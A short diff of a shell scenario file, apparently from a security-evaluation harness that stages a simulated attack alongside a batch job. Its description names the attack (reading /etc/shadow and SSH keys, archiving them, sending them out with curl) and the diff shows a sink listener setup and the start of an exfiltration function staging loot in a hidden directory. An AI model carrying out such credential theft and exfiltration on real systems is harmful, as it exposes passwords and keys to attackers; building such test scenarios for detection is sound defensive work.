@@ -9,8 +9,7 @@ SC_DESC="batch job with 4 phases; attack: read /etc/shadow + ssh keys, tar, curl
 SC_TOOLS="gzip sha256sum sort cat find tar curl"
 SC_ATTACKER="cat find tar curl"
 
-sc_setup() { peer_spawn "$PY" "$EVAL_DIR/workloads/sink.py" "$PEER_IP" 8443; }
-sc_normal() { batch_normal "$1"; }
+sc_attack_setup() { peer_spawn "$PY" "$EVAL_DIR/workloads/sink.py" "$PEER_IP" 8443; }
 
 exfil_attacker() {
 	local end=$1 i=0 loot="$WORK/.cache"
